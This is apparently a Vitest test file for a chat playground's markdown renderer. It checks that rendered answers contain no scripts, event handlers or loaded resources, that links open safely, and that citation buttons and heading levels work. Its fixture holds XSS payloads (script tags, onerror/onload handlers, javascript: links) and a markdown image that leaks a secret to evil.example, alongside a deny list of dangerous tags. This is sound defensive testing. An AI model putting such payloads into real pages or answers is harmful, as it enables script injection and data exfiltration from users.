import type { VNode } from "preact";
import { describe, expect, it, vi } from "vitest";
import { markdownElements } from "../../playground/src/chat/markdown-elements.tsx";
import type { Citation } from "../../playground/src/types.ts";
import { parseMarkdown } from "../../playground/src/chat/markdown-blocks.ts";

const CITATION: Citation = {
  n: 1,
  kb_id: "kb",
  page_id: "page",
  url: "https://example.com/prices",
  title: "Prices",
  heading: null,
  passage_id: "passage",
};

interface Element {
  readonly tag: string;
  readonly props: Readonly<Record<string, unknown>>;
}

const isVNode = (value: unknown): value is VNode<Record<string, unknown>> =>
  typeof value === "object" && value !== null && "type" in value && "props" in value;

/** Returns all elements that nodes consist of. */
function elementsOf(node: unknown): readonly Element[] {
  if (Array.isArray(node)) return node.flatMap((child: unknown) => elementsOf(child));
  if (!isVNode(node)) return [];
  const { type, props } = node;
  if (typeof type === "string") return [{ tag: type, props }, ...elementsOf(props["children"])];
  // Components without state are functions of their properties.
  return elementsOf((type as (properties: object) => unknown)(props));
}

const elements = (text: string, onCitation?: (citation: Citation) => void) =>
  elementsOf(markdownElements(parseMarkdown(text), { citations: [CITATION], onCitation }));

describe("the elements of an answer", () => {
  const HOSTILE = [
    "<script>alert(1)</script> <img src=x onerror=alert(1)>",
    "![x](https://evil.example/leak?q=secret) [y](javascript:alert(1))",
    "# [z](https://example.com)\n\n```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <style>*{}</style> |",
    "- <svg onload=alert(1)>\n  > <iframe src=//evil.example>",
  ].join("\n\n");

  it("are of harmless kinds, load nothing and handle no events but those of this page", () => {
    const found = elements(HOSTILE);

    const tags = new Set(found.map(({ tag }) => tag));
    for (const tag of ["script", "img", "iframe", "style", "object", "embed", "form", "link", "video"])
      expect(tags).not.toContain(tag);
    for (const { props } of found) {
      expect(props).not.toHaveProperty("dangerouslySetInnerHTML");
      expect(props).not.toHaveProperty("src");
      expect(props).not.toHaveProperty("srcdoc");
      expect(Object.keys(props).filter((name) => /^on/iu.test(name))).toEqual([]);
    }
  });

  it("have links that open elsewhere and tell nothing about this page", () => {
    const links = elements(HOSTILE).filter(({ tag }) => tag === "a");

    expect(links.map(({ props }) => props["href"])).toEqual([
      "https://evil.example/leak?q=secret",
      "https://example.com/",
    ]);
    for (const { props } of links) {
      expect(props["target"]).toBe("_blank");
      expect(String(props["rel"]).split(" ")).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
    }
  });

  it("include a button for each number that stands for a passage, and text for the others", () => {
    const open = vi.fn<(citation: Citation) => void>();

    const buttons = elements("It costs 5 [1], or more [7].", open).filter(({ tag }) => tag === "button");

    expect(buttons.map(({ props }) => props["aria-label"])).toEqual(["Source 1: Prices"]);
    const click = buttons[0]?.props["onClick"];
    if (typeof click === "function") click();
    expect(open).toHaveBeenCalledWith(CITATION);
  });

  it.each([
    ["# a\n## b\n### c\n###### d", ["h2", "h3", "h4", "h5"]],
    ["### a\n# b\n### c", ["h2", "h2", "h3"]],
    ["###### a\n> ## b\n\n- # c", ["h2", "h3", "h2"]],
  ])("have headings below that of the page, none of them two below the one before: %j", (text, expected) => {
    const tags = elements(text).map(({ tag }) => tag);

    expect(tags.filter((tag) => /^h\d$/u.test(tag))).toEqual(expected);
  });
});
